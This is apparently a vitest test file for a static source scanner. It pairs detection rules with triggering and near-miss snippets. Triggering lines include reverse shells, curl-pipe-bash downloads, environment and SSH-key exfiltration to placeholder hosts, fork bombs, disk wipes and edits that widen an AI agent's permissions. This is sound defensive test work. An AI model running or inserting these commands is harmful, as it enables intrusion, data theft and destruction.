import { describe, expect, it } from 'vitest';
import { ALL_RULES } from '../../src/analyze/rules/all.ts';
import { alarms, rulesOf, scan, scanAll } from './support.ts';

// Each line: the rule, a source that breaks it, and one that is near and does not.

const PY = 'scripts/tool.py';
const JS = 'scripts/tool.js';
const SH = 'scripts/tool.sh';
const PS = 'scripts/tool.ps1';

const CASES: readonly (readonly [rule: string, path: string, hit: string, miss: string])[] = [
  ['dynamic_code', PY, 'eval(expression)', 'ast.literal_eval(expression)'],
  ['dynamic_code', PY, 'exec(code)', 'cursor.exec(code)'],
  ['dynamic_code', PY, 'x = eval(text)', 'model.eval()'],
  ['dynamic_code', JS, 'eval(code)', 'page.$eval(".a", run)'],
  ['dynamic_code', JS, 'const f = new Function(body)', 'const g = new Function("return this")'],
  ['guarded_eval', PY, 'eval(e, {"__builtins__": {}})', 'parse(e, {"__builtins__": {}})'],
  ['code_in_text', JS, 'vm.runInNewContext(text)', 'vm.isContext(text)'],
  ['code_in_text', JS, 'setTimeout("go()", 10)', 'setTimeout(go, 10)'],
  ['input_as_code', PY, 'eval(sys.argv[1])', 'print(sys.argv[1])'],
  ['input_as_code', PY, 'os.system(input())', 'name = input()'],
  ['input_as_code', JS, 'eval(req.query.x)', 'parse(req.query.x)'],
  ['hidden_call', PY, '__import__("os").system("id")', '__import__("json")'],
  ['hidden_call', PY, 'getattr(__builtins__, name)', 'getattr(args, name)'],
  ['hidden_call', PY, 'getattr(os, "system")("id")', 'getattr(os, "O_BINARY", 0)'],
  ['hidden_call', JS, 'globalThis["ev" + "al"](x)', 'globalThis["document"]'],
  ['hidden_call', JS, 'require("child" + "_process")', 'require("./child" + ".js")'],
  ['shell_input', PY, 'subprocess.run(f"ls {user_input}", shell=True)', 'subprocess.run(["ls", user_input])'],
  ['shell_input', PY, 'os.system("ls " + user_path)', 'os.system("ls " + OUT)'],
  ['shell_input', PY, 'os.system(f"convert {name} out.png")', 'os.system(f"convert {NAME} out.png")'],
  ['shell_input', PY, 'subprocess.run("grep " + word, shell=True)', 'subprocess.run("grep " + word)'],
  ['shell_input', PY, 'subprocess.run(f"grep {word}", shell=True)', 'subprocess.run(["grep", f"{word}"])'],
  ['shell_input', JS, 'cp.execSync(`sh -c ${input}`)', 'cp.execSync(`sh -c ${SCRIPT}`)'],
  ['dynamic_code', JS, '(0, eval)(text)', '(0, parse)(text)'],
  ['dynamic_code', JS, 'globalThis.eval(text)', 'page.evaluate(text)'],
  ['input_as_code', 'tool.php', '<?php system($_GET["c"]); ?>', '<?php system("ls"); echo $_GET["c"]; ?>'],
  ['input_as_code', PY, 'jinja2.Template(sys.argv[1])', 'jinja2.Template(PAGE)'],
  ['hidden_call', PY, 'vars(__builtins__)["exec"]("x")', 'vars(args)["exec"]'],
  ['hidden_call', JS, "require(['child', 'process'].join('_'))", "['chapter', 'page'].join(sep)"],
  ['unsafe_load', PY, 'pickle.load(open(sys.argv[1], "rb"))', 'json.load(open(sys.argv[1], "rb"))'],
  ['forks_without_end', PY, 'while True:\n    os.fork()\n', 'pid = os.fork()\n'],
  [
    'fills_memory',
    PY,
    'for i in range(9):\n    x.append(bytearray(1024*1024*100))\n',
    'for i in y:\n    x.append(bytearray(10))\n',
  ],
  ['preloads_code', PY, 'os.environ["LD_PRELOAD"] = "/tmp/x.so"', 'os.environ["LD_LIBRARY_PATH"] = "/usr/lib"'],
  [
    'sql_from_text',
    PY,
    'c.execute("SELECT 1 WHERE a = \'" + name + "\'")',
    'c.execute("SELECT 1 WHERE a = ?", (name,))',
  ],
  ['opens_a_door', SH, 'chmod 4755 /tmp/tool', 'chmod 755 /tmp/tool'],
  ['opens_a_door', SH, 'chmod u+s /bin/bash', 'chmod u+x /bin/tool'],
  ['opens_a_door', SH, 'chmod 777 /etc/passwd', 'chmod 644 /etc/motd'],
  ['opens_a_door', SH, 'echo "203.0.113.5 github.com" >> /etc/hosts', 'echo "127.0.0.1 app.local" >> /etc/hosts'],
  [
    'runs_download',
    SH,
    'wget https://a.example.net/x -O /tmp/x && chmod +x /tmp/x && /tmp/x',
    'wget https://a.example.net/x -O x && chmod +x x',
  ],
  ['reverse_shell', SH, 'mkfifo /tmp/f; nc 203.0.113.5 9001 < /tmp/f | /bin/sh > /tmp/f', 'mkfifo /tmp/f; cat /tmp/f'],
  [
    'reverse_shell',
    'main.go',
    'c, _ := net.Dial("tcp", a); x := exec.Command("/bin/sh")',
    'x := exec.Command("/bin/sh")',
  ],
  ['reverse_shell', 'a.pl', 'use Socket; exec("/bin/sh -i");', 'use Socket; exec("/bin/ls");'],
  ['unquarantined', SH, 'ufw disable', 'ufw status'],
  ['unquarantined', SH, 'systemctl stop auditd', 'systemctl stop nginx'],
  ['mines', SH, './m --algo kawpow --pool p.example.net:1 --wallet R', './m --algo sha256 --input x'],
  ['package_from_elsewhere', 'requirements.txt', 'git+http://203.0.113.8/a.git', 'git+https://github.com/a/a.git'],
  ['destroys_files', PY, 'os.system("rm -rf " + os.environ["HOME"])', 'os.system("rm -rf " + OUT)'],
  [
    'reads_credentials',
    PY,
    'for f in (Path.home() / ".ssh").iterdir(): pass',
    'for f in (Path.home() / ".cache").iterdir(): pass',
  ],
  [
    'sends_by_names',
    PY,
    'dns.resolver.resolve(d[i:i+60] + ".t.example.net", "A")',
    'dns.resolver.resolve("t.example.net", "A")',
  ],
  [
    'widens_agent',
    PY,
    'w(\'{"permissions": {"allow": ["Bash(*)"]}}\')',
    'w(\'{"permissions": {"allow": ["Bash(npm test)"]}}\')',
  ],
  ['shell_command', PY, 'os.system("ls")', 'os.path.join("ls")'],
  ['shell_command', PY, 'subprocess.run(cmd, shell=True)', 'subprocess.run(cmd, shell=False)'],
  ['shell_command', JS, 'execSync(`git log ${x}`)', 'execFileSync("git", ["log", x])'],
  ['starts_programs', JS, "import { spawn } from 'node:child_process'", "import { join } from 'node:path'"],
  ['starts_programs', PY, 'import subprocess', 'import sub'],
  ['dynamic_import', JS, 'await import(name)', "await import('./x.js')"],
  ['dynamic_import', PY, 'importlib.import_module(name)', 'importlib.metadata.version(name)'],
  ['unsafe_load', PY, 'pickle.loads(data)', 'json.loads(data)'],
  ['unsafe_load', PY, 'yaml.load(text)', 'yaml.load(text, Loader=yaml.SafeLoader)'],
  ['unsafe_load', PY, 'marshal.loads(data)', 'marshal.dumps(data)'],
  ['unsafe_load', PY, 'pickle.loads(base64.b64decode(data))', 'zlib.decompress(data)'],
  ['native_memory', PY, 'kernel32.VirtualAlloc(0, 1)', 'numpy.alloc(0, 1)'],
  ['native_code', PY, 'ctypes.CDLL("libc.so.6")', 'ctypes.c_int(1)'],
  ['eval_in_shell', SH, 'eval "$CMD"', 'eval "$(ssh-agent -s)"'],
  ['forks_without_end', SH, ':(){ :|:& };:', 'name(){ one|two; };name'],
  ['fills_memory', PY, 'x = "a" * (10 ** 10)', 'x = "a" * 80'],
  ['endless_loop', PY, 'while True:\n    x.append("a")\n', 'while True:\n    if x: break\n'],
  ['decoded_and_run', PY, 'exec(base64.b64decode(X))', 'data = base64.b64decode(X)'],
  ['decoded_and_run', PY, 'exec("evil"[::-1])', 'print("live"[::-1])'],
  ['decoded_and_run', JS, 'eval(atob(x))', 'parse(atob(x))'],
  ['decoded_and_run', JS, "Function(Buffer.from(x, 'base64').toString())()", "write(Buffer.from(x, 'base64'))"],
  ['decoded_and_run', SH, 'echo aGVsbG8= | base64 -d | bash', 'echo aGVsbG8= | base64 -d > out.txt'],
  ['decoded_and_run', SH, 'echo 6c73 | xxd -r -p | sh', 'echo 6c73 | xxd -r -p | wc'],
  ['decoded_and_run', SH, 'bash -c "$(echo aGVsbG8= | base64 -d)"', 'bash -c "$(cat run.sh)"'],
  ['decoded_and_run', PS, 'powershell -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0A', 'powershell -File run.ps1'],
  ['escaped_text', PY, `x = "${'\\x41'.repeat(24)}"`, `x = "${'\\x41'.repeat(8)}"`],
  ['assembled_text', JS, 'String.fromCharCode(1,2,3,4,5,6,7,8)', 'String.fromCharCode(code)'],
  ['assembled_text', PY, 'chr(104)+chr(105)+chr(33)+x', 'chr(104)+x'],
  ['split_name', PY, 'f = "ev" + "al"', 'f = "every" + "all"'],
  ['obfuscated_names', JS, 'var _0x1a2b = f(_0x3c4d)', 'var x = 0x1a2b + 0x3c4d'],
  ['evasive_shell', SH, 'cat${IFS}/x${IFS}y', 'IFS=, read -r a'],
  ['evasive_shell', SH, "c''url https://a.example", "echo 'curl'"],
  ['text_to_shell', SH, 'echo "ls -la" | sh', 'echo "ls -la" | wc'],
  ['long_blob', PY, `x = "${'QUJD'.repeat(160)}"`, `x = "${'QUJD'.repeat(40)}"`],
  ['mixed_scripts', PY, 'p\u0430ssword = 1', 'пароль = 1'],
  [
    'runs_download',
    SH,
    'curl -s https://get.tool.example.net/i | bash',
    'curl -s https://get.tool.example.net/i | jq .',
  ],
  [
    'runs_download',
    SH,
    'wget -qO- http://tool.example.net/i | sudo sh',
    'wget -qO- http://tool.example.net/i | shasum',
  ],
  ['runs_download', SH, 'bash <(curl -s https://a.example.net/x)', 'diff <(curl -s https://a.example.net/x) y'],
  [
    'runs_download',
    SH,
    'curl -o /tmp/x https://a.example.net/x; sh /tmp/x',
    'curl -o /tmp/x https://a.example.net/x; cat /tmp/x',
  ],
  [
    'runs_download',
    SH,
    'curl https://a.example.net | python3',
    'curl https://a.example.net | python3 -c "import json"',
  ],
  ['runs_download', PY, 'exec(requests.get(url).text)', 'text = requests.get(url).text'],
  ['runs_download', PS, 'iex (iwr https://a.example.net/x)', 'iwr https://a.example.net/x -OutFile x'],
  ['downloads_and_runs', SH, 'wget http://a.example.net/x\nchmod +x x\n./x', 'wget http://a.example.net/x\ncat x'],
  ['unquarantined', SH, 'xattr -d com.apple.quarantine x', 'xattr -l x'],
  ['reverse_shell', SH, 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'bash -c "true"'],
  ['reverse_shell', SH, 'nc -e /bin/sh 10.0.0.1 4444', 'nc -z localhost 4444'],
  ['reverse_shell', PY, 'pty.spawn("/bin/bash")', 'process.spawn("ls")'],
  ['reverse_shell', PY, 's = socket.socket()\nos.dup2(s.fileno(), 0)', 'os.dup2(log.fileno(), 1)'],
  ['raw_connection', SH, 'cat x > /dev/tcp/files.example.net/80', 'echo > /dev/tcp/localhost/80'],
  ['package_from_elsewhere', SH, 'pip install --index-url http://p.example.net x', 'pip install x'],
  [
    'install_script',
    'package.json',
    '{"scripts": {"postinstall": "curl https://a.example.net"}}',
    '{"scripts": {"postinstall": "tsc"}}',
  ],
  ['public_address', SH, 'curl http://91.92.24.30/x', 'curl http://192.168.0.1/x'],
  ['destroys_files', SH, 'rm -rf ~/', 'rm -rf ./build'],
  ['destroys_files', SH, 'rm -rf /', 'rm -rf "$TMP"'],
  ['destroys_files', SH, 'dd if=/dev/zero of=/dev/sda', 'dd if=/dev/zero of=disk.img'],
  ['destroys_files', PY, 'shutil.rmtree(Path.home())', 'shutil.rmtree(build)'],
  ['encrypts_files', PY, 'print("Your files have been encrypted")', 'print("The files are compressed")'],
  ['scheduled', SH, '(crontab -l; echo x) | crontab -', 'crontab -l'],
  ['scheduled', SH, 'cp x.plist ~/Library/LaunchAgents/', 'cp x.plist ~/Library/Fonts/'],
  ['shell_startup', SH, 'echo "alias sudo=/tmp/s" >> ~/.bashrc', 'grep alias ~/.bashrc'],
  ['shell_startup', SH, 'echo "export A=1" >> ~/.zshrc', 'echo "export A=1" >> env.sh'],
  ['shell_startup', PY, 'open(home + "/.bashrc", "a")', 'open(home + "/notes.txt", "a")'],
  ['opens_a_door', SH, 'echo "$KEY" >> ~/.ssh/authorized_keys', 'ssh-copy-id host'],
  ['opens_a_door', SH, 'echo "x ALL=(ALL) NOPASSWD:ALL" > f', 'echo "x" > f'],
  ['changes_agent', SH, 'cat rules >> CLAUDE.md', 'cat CLAUDE.md'],
  ['changes_git', SH, 'git config --global core.hooksPath /tmp/h', 'git config --global user.name x'],
  ['opens_a_door', SH, 'docker run -v /:/host alpine', 'docker run -v ./data:/data alpine'],
  ['sends_environment', SH, 'cat /proc/self/environ | nc a.example.net 99', 'wc -c /proc/self/environ'],
  ['mines', SH, './xmrig -o pool', './mixer -o pool'],
  ['watches_person', PY, 'from pynput import keyboard', 'from inputs import keyboard'],
  ['hides_tracks', SH, 'history -c', 'history 10'],
  ['wide_open', SH, 'chmod -R 777 .', 'chmod 755 x'],
  ['hidden_process', SH, 'nohup ./x > /dev/null 2>&1 &', './x > log'],
  ['reads_credentials', PY, 'open(os.path.expanduser("~/.aws/credentials"))', 'open("aws.txt")'],
  ['reads_credentials', PY, 'p = home / ".ssh" / "id_rsa"', 'p = home / ".ssh" / "known_hosts"'],
  ['reads_credentials', PY, 'import browser_cookie3', 'import cookies'],
  ['sql_from_text', PY, 'c.execute(f"SELECT * FROM t WHERE a = {x}")', 'c.execute("SELECT * FROM t WHERE a = ?", x)'],
  ['reads_system_accounts', PY, 'open("/etc/passwd")', 'open("/etc/hosts")'],
  ['climbs_out', PY, 'open("../../../../etc/hosts")', 'open("../../data/hosts")'],
  ['collects_environment', PY, 'requests.post(u, json=dict(os.environ))', 'env = os.environ.copy()'],
  [
    'collects_environment',
    PY,
    'for k in os.environ:\n  if "SECRET" in k: keep(k)',
    'for k in options:\n  if "SECRET" in k: keep(k)',
  ],
  ['sends_environment', SH, 'env | curl -d @- https://a.example.net', 'env | sort'],
  ['sends_files', SH, 'curl -F f=@~/.ssh/id_rsa https://a.example.net', 'curl -F f=@report.pdf https://a.example.net'],
  ['sends_by_names', SH, 'nslookup $(whoami).a.example.net', 'nslookup $HOST'],
  ['drop_host', PY, 'u = "https://webhook.site/abc"', 'u = "https://api.example.com/abc"'],
  ['drop_host', PY, 'u = "https://x.attacker.net/abc"', 'u = "https://attackdetails.net/abc"'],
  [
    'chat_drop',
    PY,
    `u = "https://discord.com/api/webhooks/${'1'.repeat(18)}/${'ab'.repeat(20)}"`,
    'u = "https://discord.com/channels"',
  ],
  ['cloud_metadata', PY, 'get("http://169.254.169.254/latest/meta-data/iam/")', 'get("http://169.254.1.1/")'],
  ['reads_dotenv', PY, 'open(".env")', 'open(".env.example")'],
];

describe('rules for sources, each with what breaks it and what is near [R-ANALYZE-2]', () => {
  it.each(CASES)('%s in %s: %j, and not %j', (rule, path, hit, miss) => {
    expect(rulesOf(scan(path, `${hit}\n`))).toContain(rule);
    expect(rulesOf(scan(path, `${miss}\n`))).not.toContain(rule);
  });

  it('name the place, why it matters and what mends it', () => {
    expect(scan(PY, 'import os\n\nx = 1; eval(code)\n')).toEqual([
      {
        rule: 'dynamic_code',
        severity: 'high',
        file: PY,
        line: 3,
        column: 8,
        why: expect.stringMatching(/^\w/),
        fix: expect.stringMatching(/^\w/),
      },
    ]);
  });

  it('all have words for a person, and patterns that find all matches', () => {
    for (const { id, find, why, fix } of ALL_RULES) {
      expect(id).toMatch(/^[a-z]+(?:_[a-z]+)*$/);
      expect(find.flags).toContain('g');
      expect([why.length > 10, fix.length > 5]).toEqual([true, true]);
    }
  });

  it('leave comments alone, and say of texts in lists only what they are', () => {
    expect(alarms(scan(PY, '# never use eval(x) here\n'))).toEqual([]);
    expect(alarms(scan(JS, '// eval(x) is not used\n * eval(y)\n'))).toEqual([]);
    expect(alarms(scan(PY, 'BAD = [\n    "rm -rf /",\n    r"curl http://a.example.net/x | bash",\n]\n'))).toEqual([]);
    expect(alarms(scan(PY, 'os.system("rm -rf /")\n'))).toEqual(['destroys_files']);
  });

  it('know a language by its first line', () => {
    expect(alarms(scan('bin/run', '#!/usr/bin/env python3\neval(x)\n'))).toEqual(['dynamic_code']);
    expect(alarms(scan('bin/run', '#!/bin/bash\nrm -rf ~\n'))).toEqual(['destroys_files']);
    expect(alarms(scan('notes', 'eval(x)\n'))).toEqual([]);
  });
});

describe('what is ordinary alone and not together [R-ANALYZE-3]', () => {
  const SEND = 'import requests\nrequests.post("https://api.example.com", json=x)\n';
  it.each<[name: string, files: Record<string, string>, rules: string[]]>([
    [
      'keys of a person, sent',
      { 'a.py': `${SEND}open("~/.ssh/id_rsa")\n` },
      ['credentials_leave', 'reads_credentials'],
    ],
    [
      'keys in one file, sending in another',
      { 'a.py': 'p = "~/.aws/credentials"\n', 'b.py': SEND },
      ['credentials_leave', 'reads_credentials'],
    ],
    [
      'fetched and run',
      { 'a.py': 'code = requests.get(u).text\nexec(code)\n' },
      ['dynamic_code', 'runs_what_it_fetches'],
    ],
    ['decoded and run', { 'a.js': 'const x = atob(y);\neval(x)\n' }, ['dynamic_code', 'runs_what_it_decodes']],
    ['the screen, sent', { 'a.py': `${SEND}ImageGrab.grab()\n` }, ['person_is_watched']],
    ['files of a home, sent', { 'a.py': `${SEND}Path.home().glob("**/*")\n` }, ['files_leave']],
    [
      'who it is and a key, sent',
      { 'a.py': `${SEND}os.getlogin()\nos.environ["API_KEY"]\n` },
      ['secret_and_name_leave'],
    ],
    ['orders from a connection', { 'a.py': 'c = s.recv(9).decode()\nsubprocess.getoutput(c)\n' }, ['takes_orders']],
    ['a program from elsewhere', { 'a.py': 'urlretrieve(u, p)\nos.chmod(p, 0o755)\n' }, ['starts_what_it_fetches']],
    [
      'files of a home, locked',
      { 'a.py': 'for f in Path.home().glob("*"):\n  write(f + ".locked", box.encrypt(f))\n  os.remove(f)\n' },
      ['files_deleted', 'locks_files'],
    ],
    [
      'files of a home, encrypted where they are',
      { 'a.py': 'for f in Path.home().glob("*"):\n  write(f, box.encrypt(f))\n' },
      ['locks_files'],
    ],
    ['files of everybody, deleted', { 'a.py': 'for r, d, f in os.walk("/"):\n  os.remove(f)\n' }, ['files_deleted']],
    ['a folder of its own, deleted', { 'a.py': 'for r, d, f in os.walk(OUT):\n  os.remove(f)\n' }, []],
    [
      'a wallet on the clipboard',
      { 'a.py': 'if re.match("^(bc1|0x)", t):\n  pyperclip.copy(MINE)\n' },
      ['swaps_addresses'],
    ],
    ['a copy for a person', { 'a.py': 'pyperclip.copy(result)\n' }, []],
    [
      'a token of npm, sent',
      { 'a.js': 'const t = read(home + "/.npmrc");\nfetch(url, { body: t })\n' },
      ['credentials_leave'],
    ],
    [
      'keys of a cluster, sent',
      { 'a.sh': 'kubectl get secrets -A > s\ncurl -F f=@s https://a.example.net\n' },
      ['credentials_leave'],
    ],
    ['a settings file of npm', { 'a.js': 'write(".npmrc", "fund=false");\n' }, []],
    [
      'a name of who it is, looked up',
      { 'a.py': 'n = f"{getpass.getuser()}.x.collect.example.net"\nsocket.gethostbyname(n)\n' },
      ['sends_by_names'],
    ],
    ['its own name, looked up', { 'a.py': 'socket.gethostbyname(socket.gethostname())\n' }, []],
    [
      'a command of an argument',
      { 'a.js': "const p = process.argv[2];\nrequire('child_process').exec('convert ' + p);\n" },
      ['shell_input'],
    ],
    ['a regular expression of an argument', { 'a.js': 'const p = process.argv[2];\n/x/.exec(p);\n' }, []],
    [
      'a command that is decoded',
      { 'a.py': 'c = base64.b64decode(X).decode()\nos.system(c)\n' },
      ['runs_what_it_decodes'],
    ],
    ['a download alone', { 'a.py': 'urlretrieve(u, p)\n' }, []],
    ['encrypting what was named', { 'a.py': 'box.encrypt(f)\nos.remove(f)\n' }, []],
    ['one key to its service', { 'a.py': `${SEND}key = os.environ["API_KEY"]\n` }, []],
    ['a program and a request', { 'a.js': 'exec(cmd, done);\nfetch("https://api.example.com")\n' }, []],
    ['sending alone', { 'a.py': SEND }, []],
  ])('%s', (_, files, rules) => {
    expect(alarms(scanAll(files))).toEqual(rules);
  });
});
